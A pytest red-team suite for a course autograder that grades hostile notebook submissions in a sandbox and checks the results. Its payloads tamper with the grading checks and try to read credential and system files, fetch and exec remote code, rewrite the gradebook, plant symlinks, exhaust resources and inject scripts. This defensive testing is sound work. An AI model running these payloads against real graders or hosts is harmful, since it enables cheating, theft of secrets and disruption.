"""Red team: hostile and broken chapter-1 submissions through the grading pipeline.

Every submission below is built from the correct notebook (``Course.filled``) with one
thing changed, and all of them are graded in ONE batch together with honest
submissions, by the real command (``python -m autograder.grade``), sandbox on. Each
test asserts the exact score of every graded cell and the reason the learner is given;
the honest submissions, graded before, between and after, keep full marks.
"""
from __future__ import annotations

import copy
import html
import json
import re
import subprocess
import sys
import time

import nbformat
import pytest

from course import REPO, Course, autograded_points, nbgrader_env

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("redteam")]

FULL = autograded_points("ch01")  # every autograded cell of ch01 at full marks
ORDER = list(FULL)
# A tampering in sample_token's cell also costs every test cell after it (the questions).
FROM_SAMPLE_TOKEN = ORDER[ORDER.index("test_sample_token"):]
SOLUTION = {}


def zero(*cells: str) -> dict:
    return {k: (0.0 if k in cells else v) for k, v in FULL.items()}


def zero_from(cell: str) -> dict:
    return zero(*ORDER[ORDER.index(cell):])


def answer(course, function: str, extra_after: str = "", body: str | None = None) -> dict:
    """Overrides for Course.filled: the reference answer plus top-level code after it,
    or a whole new body."""
    from course import solution_sources
    source = body if body is not None else solution_sources("ch01")[function]
    return {function: source + ("\n" + extra_after if extra_after else "")}


def wrap(function: str, prelude: str) -> str:
    """Redefine ``function`` so that it runs ``prelude`` and then the reference."""
    return (f"_ref_{function} = {function}\n"
            f"def {function}(*args, **kwargs):\n"
            + "".join(f"    {line}\n" for line in prelude.splitlines())
            + f"    return _ref_{function}(*args, **kwargs)\n")


SNOOP = """
import os
_paths = {paths!r}
for _p in _paths:
    try:
        with open(_p, 'rb') as _f:
            _f.read(10)
        print('READ', _p)
    except OSError as _e:
        print('DENIED', _p, type(_e).__name__)
print('listing', sorted(os.listdir('/'))[:30])
print('cwd listing', sorted(os.listdir('.')), sorted(os.listdir('/submission')))
raise NotImplementedError()
"""

DETACHED = r"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', '''
import os, sqlite3, time
for _ in range(40):
    for path in {paths!r}:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("update grade set auto_score = 99")
            db.commit()
        except Exception:
            pass
    time.sleep(0.25)
'''], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

INPUT_TRANSFORMER = """
def _blank(lines):
    return [] if any('check(' in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank)
"""

AST_TRANSFORMER = """
import ast
class _Mute(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_Mute())
"""

CASES: dict[str, dict] = {}


def case(name: str, expected: dict, reasons: dict | None = None, *, note: str = "",
         tampering: str | None = None, status: str = "graded"):
    def register(build):
        CASES[name] = {"build": build, "expected": expected, "reasons": reasons or {},
                       "note": note, "tampering": tampering, "status": status}
        return build
    return register


@case("replaced-allclose", zero_from("test_softmax"),
      {"test_softmax": "tampered with the grading kernel"},
      tampering="numpy.allclose was replaced")
def _(course, ctx):
    return course.filled("ch01", answer(course, "softmax", "np.allclose = lambda *a, **k: True"))


@case("patched-autograder-checks", zero_from("test_one_hot"),
      {"test_one_hot": "tampered"}, tampering="rnnkit.checks.check_array was replaced")
def _(course, ctx):
    return course.filled("ch01", answer(
        course, "one_hot", "import rnnkit.checks\n"
                           "rnnkit.checks.check_array = lambda *a, **k: None"))


@case("input-transformer-blanks-tests", zero_from("test_rnn_forward"),
      {"test_rnn_forward": "tampered"}, tampering="input transformer")
def _(course, ctx):
    return course.filled("ch01", answer(course, "rnn_forward", INPUT_TRANSFORMER))


@case("ast-transformer", zero_from("test_softmax"), {"test_softmax": "tampered"},
      tampering="AST transformer")
def _(course, ctx):
    return course.filled("ch01", answer(course, "softmax", AST_TRANSFORMER))


@case("redefined-check", zero(*FROM_SAMPLE_TOKEN), {"test_sample_token": "tampered"},
      tampering="`check` is not the course's check")
def _(course, ctx):
    return course.filled("ch01", answer(
        course, "sample_token", "check = lambda *a, **k: print('passed')"))


@case("reads-solutions-gradebook-others", zero("test_one_hot"),
      {"test_one_hot": "one_hot is not defined"})
def _(course, ctx):
    paths = [str(REPO / "solutions" / "ch01" / "ch01.ipynb"),
             str(course.root / "solutions" / "ch01" / "ch01.ipynb"),
             str(course.root / "autograder" / "gradebook.db"),
             str(REPO / "autograder" / "gradebook.db"),
             str(course.root / "autograder" / "submitted" / "honest-a" / "ch01" / "ch01.ipynb"),
             str(REPO / "nbgrader_config.py"), "/etc/shadow", "/root/.bash_history"]
    ctx["snoop_paths"] = paths
    return course.filled("ch01", {"one_hot": SNOOP.format(paths=paths)})


@case("wraps-course-reference", zero("test_sequence_cross_entropy"),
      {"test_sequence_cross_entropy": "No module named 'autograder.reference'"})
def _(course, ctx):
    # A wrapper around the instructor's reference loader: the sandbox's snapshot is the
    # kit and the runner only, so there is no reference code to import.
    body = ("def sequence_cross_entropy(*args, **kwargs):\n"
            "    import importlib\n"
            "    ref = importlib.import_module('autograder.reference').load('ch01')\n"
            "    return ref.sequence_cross_entropy(*args, **kwargs)\n")
    return course.filled("ch01", {"sequence_cross_entropy": body})


@case("detached-process-rewrites-gradebook", FULL)
def _(course, ctx):
    paths = [str(course.root / "autograder" / "gradebook.db"),
             str(REPO / "autograder" / "gradebook.db"), "gradebook.db"]
    return course.filled("ch01", answer(course, "one_hot", DETACHED.format(paths=paths)))


@case("mutates-input-in-place", zero("test_softmax"),
      {"test_softmax": "softmax changed its input `scores` in place"})
def _(course, ctx):
    body = ("def softmax(scores):\n"
            "    scores -= scores.max(axis=-1, keepdims=True)\n"
            "    np.exp(scores, out=scores)\n"
            "    scores /= scores.sum(axis=-1, keepdims=True)\n"
            "    return scores\n")
    return course.filled("ch01", {"softmax": body})


@case("eq-always-true", zero("test_one_hot"),
      {"test_one_hot": "should be a numpy array or number, got Anything"})
def _(course, ctx):
    body = ("class Anything:\n"
            "    def __eq__(self, other):\n        return True\n"
            "    def __array__(self, *a, **k):\n        raise TypeError('no')\n"
            "def one_hot(indices, vocab_size):\n    return Anything()\n")
    return course.filled("ch01", {"one_hot": body})


@case("ndarray-subclass", zero("test_rnn_step_forward", "test_rnn_forward"),
      {"test_rnn_step_forward": "a subclass of ndarray"})
def _(course, ctx):
    body = ("class Liar(np.ndarray):\n"
            "    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
            "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n"
            "    return np.zeros((x.shape[0], Wh.shape[0])).view(Liar), None\n")
    return course.filled("ch01", {"rnn_step_forward": body})


@case("network-access", zero("test_softmax", "test_sample_token"),
      {"test_softmax": "softmax is not implemented yet"})
def _(course, ctx):
    body = ("import socket\n"
            "for host in [('1.1.1.1', 80), ('127.0.0.1', 22), ('pypi.org', 443)]:\n"
            "    try:\n        socket.create_connection(host, timeout=3)\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as e:\n        print('NO NETWORK', host, type(e).__name__)\n"
            "def softmax(scores):\n"
            "    import urllib.request\n"
            "    try:\n"
            "        code = urllib.request.urlopen('http://1.1.1.1/softmax.py', timeout=3).read()\n"
            "    except OSError:\n"
            "        raise NotImplementedError()\n"
            "    exec(code)\n")
    return course.filled("ch01", {"softmax": body})


@case("os-exit-in-function", zero("test_sample_token"),
      {"test_sample_token": "exited with status 3"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "sample_token",
                                        wrap("sample_token", "import os\nos._exit(3)")))


@case("segfault-in-function", zero("test_rnn_step_forward", "test_rnn_forward"),
      {"test_rnn_step_forward": "segmentation fault",
       "test_rnn_forward": "segmentation fault"})
def _(course, ctx):
    return course.filled("ch01", answer(
        course, "rnn_step_forward", wrap("rnn_step_forward",
                                         "import ctypes\nctypes.string_at(0)")))


@case("infinite-loop-in-function", zero("test_rnn_forward"),
      {"test_rnn_forward": "time limit per cell"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "rnn_forward",
                                        wrap("rnn_forward", "while True:\n    pass")))


@case("memory-hog-in-function", zero("test_sequence_cross_entropy"),
      {"test_sequence_cross_entropy": "MemoryError"})
def _(course, ctx):
    hog = "blocks = []\nwhile True:\n    blocks.append(np.empty(1 << 25))  # 256 MB each"
    return course.filled("ch01", answer(course, "sequence_cross_entropy",
                                        wrap("sequence_cross_entropy", hog)))


@case("huge-print", FULL)
def _(course, ctx):
    return course.filled("ch01", answer(course, "one_hot",
                                        "for _ in range(200000):\n    print('x' * 1000)"))


@case("sys-exit-in-function", zero("test_one_hot"),
      {"test_one_hot": "one_hot raised SystemExit"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "one_hot",
                                        wrap("one_hot", "import sys\nsys.exit(1)")))


@case("keyboard-interrupt-in-function", zero("test_rnn_forward"),
      {"test_rnn_forward": "rnn_forward raised KeyboardInterrupt"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "rnn_forward",
                                        wrap("rnn_forward", "raise KeyboardInterrupt")))


@case("stderr-warnings-correct-answers", FULL)
def _(course, ctx):
    prelude = ("import sys, warnings\n"
               "warnings.warn('this is only a warning', UserWarning)\n"
               "print('debug output on stderr', file=sys.stderr)")
    overrides = {}
    for function in ("one_hot", "softmax", "sample_token"):
        overrides.update(answer(course, function, wrap(function, prelude)))
    return course.filled("ch01", overrides)


@case("deleted-test-cell", FULL, note="'test_softmax' was missing")
def _(course, ctx):
    nb = course.filled("ch01")
    nb.cells = [c for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") != "test_softmax"]
    return nb


@case("edited-test-cell", FULL, note="'test_one_hot' was edited")
def _(course, ctx):
    nb = course.filled("ch01")
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "test_one_hot":
            c.source = "print('all tests passed')"
    return nb


@case("reordered-cells", FULL, note="Cells were moved")
def _(course, ctx):
    nb = course.filled("ch01")
    i = next(k for k, c in enumerate(nb.cells)
             if c.metadata.get("nbgrader", {}).get("grade_id") == "test_rnn_forward")
    cell = nb.cells.pop(i)
    nb.cells.insert(2, cell)  # before any answer: would fail if run where it is
    return nb


@case("changed-metadata", FULL, note="metadata of cell 'test_one_hot' was changed")
def _(course, ctx):
    nb = course.filled("ch01")
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_one_hot":
            meta["points"] = 100
        if meta.get("grade_id") == "test_softmax":
            meta["grade"] = False
    return nb


@case("renamed-notebook", FULL, note="submitted as 'my_work.ipynb'")
def _(course, ctx):
    ctx["filename"] = "my_work.ipynb"
    return course.filled("ch01")


@case("invalid-json", zero(*FULL), {"test_one_hot": "not valid JSON"}, status="rejected")
def _(course, ctx):
    return b'{"cells": [ {"cell_type": "code", '


@case("empty-file", zero(*FULL), {"test_one_hot": "empty file"}, status="rejected")
def _(course, ctx):
    return b""


@case("other-assignment", zero(*FULL), {"test_one_hot": "not the ch01 notebook"},
      status="rejected")
def _(course, ctx):
    other = REPO / "exercises" / "ch02" / "ch02.ipynb"
    if other.exists():
        return other.read_bytes()
    nb = copy.deepcopy(course.release("ch01"))
    for c in nb.cells:
        if "nbgrader" in c.metadata:
            c.metadata["nbgrader"]["grade_id"] = "ch09_" + c.metadata["nbgrader"]["grade_id"]
    return nb


@case("forges-grader-channel", zero(*FULL), {"test_one_hot": "tampered"},
      tampering="report channel")
def _(course, ctx):
    forge = ("import os\nfor fd in range(3, 40):\n    try:\n"
             "        os.write(fd, b'{\"ev\": \"end\"}\\nnot json\\n')\n"
             "    except OSError:\n        pass")
    return course.filled("ch01", answer(course, "one_hot", forge))



# ----------------------------------------------------------------- the one-way boundary

PLANT_LINKS = r"""
import os
_targets = {targets!r}
_places = [os.getcwd(), os.path.expanduser('~'), '/tmp', os.environ.get('RNNCOURSE_RECORD_DIR', '.'),
           os.path.dirname(os.environ.get('RNNCOURSE_RECORD_DIR', '.'))]
for _place in _places:
    for _n, _t in enumerate(_targets):
        for _name in ('job.json', 'ctl', 'runner-1.log', f'link{{_n}}'):
            try:
                os.symlink(_t, os.path.join(_place, _name + (str(_n) if _name != f'link{{_n}}' else '')))
            except OSError:
                pass
print('planted')
"""


@case("symlinks-then-crash", zero("test_sample_token"),
      {"test_sample_token": "exited with status 7"},
      tampering="links or special files where results are recorded were ignored")
def _(course, ctx):
    # Links to host files in every place the sandbox can write, then a crash, so the
    # grader restarts the notebook: nothing the grader writes may follow them.
    targets = [str(course.root / "autograder" / "gradebook.db"),
               str(course.root / "autograder" / "submitted" / "honest-a" / "ch01" / "ch01.ipynb"),
               str(course.root / "autograder" / ".scratch" / "sandbox"),
               sys.executable, str(REPO / "nbgrader_config.py")]
    ctx["link_targets"] = targets
    return course.filled("ch01", {
        **answer(course, "one_hot", PLANT_LINKS.format(targets=targets)),
        **answer(course, "sample_token", wrap("sample_token", "import os\nos._exit(7)"))})


POINT_RECORDINGS = r"""
import os, re
_cmd = open('/proc/1/cmdline', 'rb').read().split(b'\0')
_hosts = sorted({a.decode() for a in _cmd if a.startswith(b'/') and b'work' in a})
print('host paths seen:', len(_hosts))
_rec = os.environ['RNNCOURSE_RECORD_DIR']
_other = [h.replace('/links-to-other-learners/', '/honest-a/') for h in _hosts]
for _i in range(8):
    _stem = f'ch01__one_hot_seed{_i}'
    for _ext in ('.json', '.npz'):
        for _target in _other + ['/proc/1/environ', '/etc/passwd']:
            try:
                os.symlink(_target, os.path.join(_rec, _stem + _ext))
                break
            except OSError:
                pass
os.mkfifo(os.path.join(_rec, 'ch01__fifo.json'))
os.mkdir(os.path.join(_rec, 'ch01__dir.json'))
def one_hot(indices, vocab_size):
    raise NotImplementedError()
"""


@case("links-to-other-learners", zero("test_one_hot"),
      {"test_one_hot": "one_hot is not implemented yet"},
      tampering="links or special files where results are recorded were ignored")
def _(course, ctx):
    # Links where the recordings go, aimed at another learner's work folder (whose host
    # path bubblewrap's command line shows), /proc and /etc; a FIFO; a folder.
    return course.filled("ch01", {"one_hot": POINT_RECORDINGS})


READ_SECRETS = r"""
import gc, os
for _p in ('/proc/1/environ', '/proc/1/cmdline', '/proc/self/environ'):
    try:
        print(_p, open(_p, 'rb').read().replace(b'\0', b' ').decode(errors='replace'))
    except OSError as _e:
        print(_p, 'DENIED', type(_e).__name__)
print('ENV', sorted(os.environ))
"""

HUNT_SECRETS = r"""
import gc, sys
def _looks_secret(o):
    # the shapes of what the grader sends: a cell message, a hidden call, a token
    if isinstance(o, dict):
        return bool({'hidden', 'nonce', 'secret'} & set(o)) or (
            o.get('fn') in ('check', 'gradcheck') and 'kwargs' in o)
    if isinstance(o, (list, tuple)):
        return any(isinstance(x, dict) and _looks_secret(x) for x in o[:100])
    return False
_found = [repr(o)[:300] for o in gc.get_objects() if _looks_secret(o)]
for _f in sys._current_frames().values():
    while _f is not None:
        _found += [f'{k}={repr(v)[:300]}' for k, v in list(_f.f_locals.items())
                   if _looks_secret(v)]
        _f = _f.f_back
print('HUNT FOUND', len(_found))
for _x in _found[:20]:
    print('LEAK', _x)
"""


@case("reads-proc-1-and-hunts-with-gc", FULL)
def _(course, ctx):
    # bubblewrap's own process (pid 1) and the runner's memory: no grader environment,
    # no hidden tests, no canary token to find.
    nb = course.filled("ch01", answer(course, "one_hot", READ_SECRETS))
    nb.cells.append(nbformat.v4.new_code_cell(HUNT_SECRETS))
    return nb


# ----------------------------------------------------------------- resources

FILL_TMP = r"""
import os
for _where in ('/tmp', os.getcwd()):
    _mb, _files = 0, []
    try:
        for _k in range(128):  # files of 32 MB each: up to 4 GB
            _files.append(os.path.join(_where, f'filler{_k}.bin'))
            with open(_files[-1], 'wb') as _f:
                for _ in range(32):
                    _f.write(b'x' * (1 << 20))
                    _mb += 1
    except OSError as _e:
        print('FULL', _where, _mb, 'MB', type(_e).__name__)
    for _path in _files:
        try:
            os.unlink(_path)
        except OSError:
            pass
"""


@case("fills-tmp-and-work", FULL)
def _(course, ctx):
    return course.filled("ch01", answer(course, "one_hot", FILL_TMP))


FORK_AND_ALLOCATE = r"""
import os, time
_kids = []
for _ in range(4):
    _pid = os.fork()
    if _pid == 0:
        try:
            open('/proc/self/oom_score_adj', 'w').write('1000')
            _block = bytearray(900 << 20)
            for _i in range(0, len(_block), 4096):
                _block[_i] = 1
            time.sleep(1)
        finally:
            os._exit(0)
    _kids.append(_pid)
_killed = 0
for _pid in _kids:
    _, _status = os.waitpid(_pid, 0)
    _killed += os.WIFSIGNALED(_status)
print('children killed', _killed)
"""


@case("fork-and-allocate", FULL)
def _(course, ctx):
    # four processes of 900 MB each, each under the per-process limit (1536 MB), together
    # more than the whole sandbox may hold (2048 MB)
    return course.filled("ch01", answer(course, "softmax", FORK_AND_ALLOCATE))


BOMB = r"""
import os, zipfile
_ref_one_hot = one_hot
_bombed = []
def one_hot(indices, vocab_size):
    out = _ref_one_hot(indices, vocab_size)
    folder = os.environ.get('RNNCOURSE_RECORD_DIR')
    done = [n for n in sorted(os.listdir(folder)) if n.endswith('.npz')] if folder else []
    if done and not _bombed:
        _bombed.append(done[0])
        header = (b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, "
                  b"'shape': (41943040,), }").ljust(127) + b"\n"
        with zipfile.ZipFile(os.path.join(folder, done[0]), 'w', zipfile.ZIP_DEFLATED,
                             compresslevel=1) as z:
            with z.open('one_hot.npy', 'w', force_zip64=True) as m:
                m.write(header)
                zeros = bytes(1 << 20)
                for _ in range(320):
                    m.write(zeros)
    return out
"""


@case("decompression-bomb", zero("test_one_hot"),
      {"test_one_hot": "larger than the grader accepts"})
def _(course, ctx):
    # 320 MB of zeros in a small recording, written over an earlier case's recording
    return course.filled("ch01", answer(course, "one_hot", BOMB))


FLOOD_FILES = r"""
import os
for _where in (os.getcwd(), '/tmp'):
    for _i in range(20000):
        open(os.path.join(_where, f'f{_i}'), 'w').close()
_rec = os.environ['RNNCOURSE_RECORD_DIR']
for _i in range(3000):
    with open(os.path.join(_rec, f'ch01__flood{_i}.json'), 'w') as _f:
        _f.write('{}')
print('flooded')
"""


@case("file-count-flood", zero(*FROM_SAMPLE_TOKEN),
      {"test_sample_token": "no result was recorded"},
      tampering="past the grader's budget")
def _(course, ctx):
    # 40,000 files in the work area and /tmp (gone with the sandbox), and 3,000 fake
    # recordings: past the budget, so the recordings of the tests after it are refused
    return course.filled("ch01", answer(course, "sample_token", FLOOD_FILES))


# ----------------------------------------------------------------- honest work

MAGICS_FIRST = "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\n"


@case("magics-and-plots", FULL)
def _(course, ctx):
    # What runs in Jupyter runs here: magics on the first lines of answer cells, a plot,
    # %%capture, autoreload.
    from course import solution_sources
    src = solution_sources("ch01")
    nb = course.filled("ch01", {
        "one_hot": MAGICS_FIRST + src["one_hot"],
        "softmax": "%load_ext autoreload\n%autoreload 2\n" + src["softmax"]
                   + "\nimport matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()\n",
        "sample_token": "%%capture captured\n" + src["sample_token"] + "\nprint('hidden')\n"})
    return nb


@case("helper-module-beside-notebook", FULL)
def _(course, ctx):
    # A module submitted beside the notebook, and one written with %%writefile.
    from course import solution_sources
    src = solution_sources("ch01")
    ctx["files"] = {"mysoftmax.py": "import numpy as np\n\n" + src["softmax"]}
    nb = course.filled("ch01", {
        "softmax": "from mysoftmax import softmax\n",
        "one_hot": "%%writefile myonehot.py\nimport numpy as np\n\n" + src["one_hot"]})
    i = next(k for k, c in enumerate(nb.cells)
             if c.metadata.get("nbgrader", {}).get("grade_id") == "test_one_hot")
    nb.cells.insert(i, nbformat.v4.new_code_cell("from myonehot import one_hot"))
    return nb



# ----------------------------------------------------------------- honest: copied and split cells

def copy_cell(nb, grade_id: str, where: int | None = None):
    """Jupyter's copy/paste: the same cell, nbgrader metadata included, under a new
    cell id; pasted below the original unless ``where`` says otherwise."""
    i = next(k for k, c in enumerate(nb.cells)
             if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    pasted = copy.deepcopy(nb.cells[i])
    pasted["id"] = f"copy-{grade_id}"
    nb.cells.insert(i + 1 if where is None else where, pasted)
    return nb


def split_cell(nb, grade_id: str, marker: str = "<SPLIT>"):
    """Jupyter's "split cell" at ``marker``: both halves keep the nbgrader metadata."""
    i = next(k for k, c in enumerate(nb.cells)
             if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    head, tail = nb.cells[i].source.split(marker)
    second = copy.deepcopy(nb.cells[i])
    second["id"] = f"split-{grade_id}"
    nb.cells[i].source, second.source = head.rstrip("\n"), tail.lstrip("\n")
    nb.cells.insert(i + 1, second)
    return nb


@case("copied-answer-cell", FULL, note="The answer cell 'rnn_step_forward' appeared 2 "
      "times (a copied or split cell); the copy that defines rnn_step_forward was graded")
def _(course, ctx):
    return copy_cell(course.filled("ch01"), "rnn_step_forward")


@case("split-answer-cell", FULL, note="The answer cell 'rnn_step_forward' appeared 2 "
      "times (a copied or split cell); the copy that defines rnn_step_forward was graded")
def _(course, ctx):
    body = ("def _preactivation(x, prev_h, Wx, Wh, b):\n"
            "    return x @ Wx + prev_h @ Wh + b  # (N, H)\n"
            "<SPLIT>\n"
            "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n"
            "    next_h = np.tanh(_preactivation(x, prev_h, Wx, Wh, b))  # (N, H)\n"
            "    return next_h, (x, prev_h, Wx, Wh, next_h)\n")
    return split_cell(course.filled("ch01", {"rnn_step_forward": body}), "rnn_step_forward")


@case("copied-test-cell", FULL, note="The test cell 'test_softmax' appeared 2 times (a "
      "copied cell); it was graded once and the copies were removed.")
def _(course, ctx):
    nb = course.filled("ch01")
    return copy_cell(nb, "test_softmax", where=len(nb.cells))  # pasted at the very end


@case("copied-markdown-cell", FULL, note="The cell 'p2' appeared 2 times (a copied cell); "
      "the first is the course's cell and the others were kept as your notes.")
def _(course, ctx):
    nb = course.filled("ch01")
    return copy_cell(nb, "p2", where=len(nb.cells))



@case("returns-lists-and-scalars", FULL)
def _(course, ctx):
    # Lists and numpy scalars where the docstring says tuple, array or float: the
    # in-kernel check accepts them, so the outside judge must too.
    returns = {"rnn_step_forward": "list(_ref_rnn_step_forward(*args, **kwargs))",
               "rnn_forward": "list(_ref_rnn_forward(*args, **kwargs))",
               "sequence_cross_entropy":
                   "np.float64(_ref_sequence_cross_entropy(*args, **kwargs))",
               "sample_token": "np.asarray(_ref_sample_token(*args, **kwargs)).tolist()"}
    overrides = {}
    for function, value in returns.items():
        overrides.update(answer(course, function,
                                f"_ref_{function} = {function}\n"
                                f"def {function}(*args, **kwargs):\n    return {value}\n"))
    return course.filled("ch01", overrides)



@case("script-outputs", FULL)
def _(course, ctx):
    # HTML, JavaScript and SVG with scripts in outputs, markdown, a raw cell and widget
    # state: the instructor's browser and formgrader must only ever see them as text.
    shows = ("from IPython.display import HTML, Javascript, SVG, display\n"
             "display(HTML('<script>window.PWNED=1</script><b>x</b>'))\n"
             "display(Javascript('window.PWNED=2'))\n"
             "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\">"
             "<script>window.PWNED=3</script></svg>'))")
    nb = course.filled("ch01", answer(course, "one_hot", shows))
    nb.cells.append(nbformat.v4.new_markdown_cell(
        "<script>window.PWNED=4</script><img src=x onerror=\"window.PWNED=5\">"))
    nb.cells.append(nbformat.v4.new_raw_cell("<script>window.PWNED=6</script>",
                                             metadata={"raw_mimetype": "text/html"}))
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {}}}
    return nb


HONEST = ["honest-a", "honest-m", "honest-z"]
SECRET = "grader-secret-4d1f9e"   # in the grader's environment, never in the sandbox's
NOTES_SENTINEL = "instructor-notes-77c2"


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    course = Course(root / "course", ["ch01"])
    course.copy_release("ch01")
    subs = root / "subs"
    # an instructor's file beside the solution: the sandbox must never see it
    (course.root / "solutions" / "ch01" / "instructor_notes.txt").write_text(NOTES_SENTINEL)
    ctxs = {}
    for name in ["honest-a"] + sorted(CASES)[: len(CASES) // 2] + ["honest-m"] \
            + sorted(CASES)[len(CASES) // 2:] + ["honest-z"]:
        folder = subs / name
        folder.mkdir(parents=True)
        if name in HONEST:
            nbformat.write(course.filled("ch01"), folder / "ch01.ipynb")
            continue
        ctx = ctxs[name] = {}
        built = CASES[name]["build"](course, ctx)
        target = folder / ctx.get("filename", "ch01.ipynb")
        for extra, text in ctx.get("files", {}).items():
            (folder / extra).write_text(text)
        if isinstance(built, bytes):
            target.write_bytes(built)
        else:
            nbformat.write(built, target)
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "autograder.grade", "ch01", str(subs), "--root",
         str(course.root), "--cell-timeout", "45", "--notebook-timeout", "150",
         "--memory-mb", "1536", "--sandbox-memory-mb", "2048", "-q"],
        cwd=REPO, env={**nbgrader_env(), "RNNCOURSE_TEST_SECRET": SECRET},
        capture_output=True, text=True, timeout=1500)
    elapsed = time.monotonic() - started
    time.sleep(1.5)  # a surviving detached process would have rewritten the gradebook
    verdicts = {p.stem: json.loads(p.read_text()) for p in
                (course.root / "autograder" / "reports" / "ch01" / "verdicts").glob("*.json")}
    return {"course": course, "proc": proc, "verdicts": verdicts, "ctx": ctxs,
            "scores": course.scores("ch01"), "elapsed": elapsed}


def test_batch_ran(batch):
    proc = batch["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-5000:]
    assert len(CASES) >= 20
    assert set(batch["verdicts"]) == set(CASES) | set(HONEST)


@pytest.mark.parametrize("student", HONEST)
def test_honest_submissions_keep_full_marks(batch, student):
    verdict = batch["verdicts"][student]
    assert {g: c["score"] for g, c in verdict["cells"].items()} == FULL, verdict
    assert batch["scores"][student] == FULL
    assert not verdict["tampering"] and not verdict["notes"] and not verdict["incidents"]


@pytest.mark.parametrize("student", sorted(CASES))
def test_hostile_submission(batch, student):
    spec = CASES[student]
    verdict = batch["verdicts"][student]
    got = {g: c["score"] for g, c in verdict["cells"].items()}
    assert got == spec["expected"], json.dumps(verdict, indent=1)[:4000]
    # the gradebook (what nbgrader export and feedback read) says the same
    assert batch["scores"][student] == spec["expected"]
    assert verdict["status"] == spec["status"]
    for cell, reason in spec["reasons"].items():
        assert reason in verdict["cells"][cell]["reason"], verdict["cells"][cell]
    if spec["note"]:
        assert any(spec["note"] in n for n in verdict["notes"]), verdict["notes"]
    if spec["tampering"] is None:
        assert not verdict["tampering"], verdict["tampering"]
    else:
        assert spec["tampering"] in verdict["tampering"], verdict["tampering"]


def _autograded(batch, student: str) -> str:
    return (batch["course"].root / "autograder" / "autograded" / student / "ch01"
            / "ch01.ipynb").read_text()


def test_sandbox_hides_solutions_gradebook_and_other_learners(batch):
    text = _outputs(batch, "reads-solutions-gradebook-others")
    for path in batch["ctx"]["reads-solutions-gradebook-others"]["snoop_paths"]:
        assert f"DENIED {path}" in text, (path, text)
        assert f"READ {path}" not in text


def _outputs(batch, student: str) -> str:
    nb = json.loads(_autograded(batch, student))
    def text(value) -> str:
        return "".join(value) if isinstance(value, list) else str(value or "")
    return "".join(text(o.get("text")) + text(o.get("evalue"))
                   for c in nb["cells"] for o in c.get("outputs", []))


def test_nothing_from_solutions_enters_the_sandbox(batch):
    text = _outputs(batch, "reads-solutions-gradebook-others")
    assert "cwd listing [] []" in text, text[-2000:]
    for student in batch["verdicts"]:
        assert NOTES_SENTINEL not in _all_text(batch, student)


def test_sandbox_has_no_network(batch):
    text = _outputs(batch, "network-access")
    assert "CONNECTED" not in text and text.count("NO NETWORK") == 3, text


def test_huge_output_is_truncated(batch):
    assert "output truncated" in _outputs(batch, "huge-print")
    assert len(_autograded(batch, "huge-print")) < 2_000_000


def test_feedback_never_shows_hidden_tests(batch):
    course = batch["course"]
    hidden = []
    for cell in nbformat.read(course.root / "solutions" / "ch01" / "ch01.ipynb", 4).cells:
        if "BEGIN HIDDEN TESTS" in cell.source:
            block = cell.source.split("BEGIN HIDDEN TESTS")[1].split("### END HIDDEN")[0]
            hidden += [ln.strip() for ln in block.splitlines() if ln.strip()]
    assert hidden
    feedback = sorted((course.root / "autograder" / "feedback").glob("*/ch01/ch01.html"))
    assert len(feedback) == len(CASES) + len(HONEST)
    import html
    for path in feedback:
        text = html.unescape(path.read_text())
        leaked = [ln for ln in hidden if ln in text]
        assert not leaked and "HIDDEN TESTS" not in text, (path, leaked[:2])


def test_feedback_tells_the_learner_why(batch):
    course = batch["course"]
    text = (course.root / "autograder" / "feedback" / "mutates-input-in-place" / "ch01"
            / "ch01.html").read_text()
    assert "changed its input" in text
    text = (course.root / "autograder" / "feedback" / "empty-file" / "ch01"
            / "ch01.html").read_text()
    assert "empty file" in text


def test_report_and_csv(batch):
    out = batch["course"].root / "autograder" / "reports" / "ch01"
    report = (out / "report.html").read_text()
    from autograder.pipeline.report import SCRIPT
    # the one script is the report's own (sorting the table), allowed by its CSP hash
    assert report.count("<svg") >= 2 and report.count("<script") == 1
    assert f"<script>{SCRIPT}</script>" in report
    for name, spec in CASES.items():
        if spec["tampering"]:
            assert name in report.split("Tampering flagged")[1].split("<h2>")[0]
    rows = (out / "grades.csv").read_text().splitlines()
    assert rows[0].startswith("assignment,") and len(rows) == 1 + len(CASES) + len(HONEST)


def test_regrading_one_learner_changes_nobody_else(batch):
    course = batch["course"]
    before = course.scores("ch01")
    proc = subprocess.run(
        [sys.executable, "-m", "autograder.grade", "ch01", "--root", str(course.root),
         "--student", "honest-m", "--student", "mutates-input-in-place", "-q",
         "--no-feedback"],
        cwd=REPO, env=nbgrader_env(), capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert course.scores("ch01") == before


# ----------------------------------------------------------------- the boundary, checked

def _all_text(batch, student: str) -> str:
    course = batch["course"]
